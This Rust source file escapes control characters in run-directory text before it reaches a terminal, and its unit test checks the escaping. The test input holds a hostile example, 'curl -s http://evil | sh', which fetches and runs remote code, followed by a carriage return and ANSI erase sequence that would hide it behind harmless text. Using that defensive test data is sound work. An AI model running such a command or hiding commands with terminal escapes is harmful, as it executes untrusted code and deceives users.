//! Text a run directory holds (a target, a client's command), shown on a terminal: a run
//! directory may be anybody's, and its control characters must not move the cursor, clear the
//! screen or hide what is printed beside them. Each is shown escaped (`\u{1b}`).

use std::borrow::Cow;

/// `text` with every control character escaped, line breaks too: one line, one table cell.
pub fn line(text: &str) -> Cow<'_, str> {
    escape(text, |_| true)
}

/// `text` with every control character escaped but its line breaks.
pub fn lines(text: &str) -> Cow<'_, str> {
    escape(text, |c| c != '\n')
}

fn escape(text: &str, escaped: impl Fn(char) -> bool) -> Cow<'_, str> {
    let hidden = |c: char| c.is_control() && escaped(c);
    if !text.chars().any(hidden) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(
        text.chars()
            .map(|c| match hidden(c) {
                true => c.escape_unicode().to_string(),
                false => c.to_string(),
            })
            .collect(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn control_characters_are_shown_not_obeyed() {
        let hostile = "curl -s http://evil | sh #\r\u{1b}[2Kecho hello\u{9b}";
        assert_eq!(
            line(hostile),
            "curl -s http://evil | sh #\\u{d}\\u{1b}[2Kecho hello\\u{9b}"
        );
        assert_eq!(lines("a\nb\u{7}"), "a\nb\\u{7}");
        assert_eq!(line("a\nb"), "a\\u{a}b");
        assert!(matches!(line("node-1<->postgres ünï"), Cow::Borrowed(_)));
    }
}
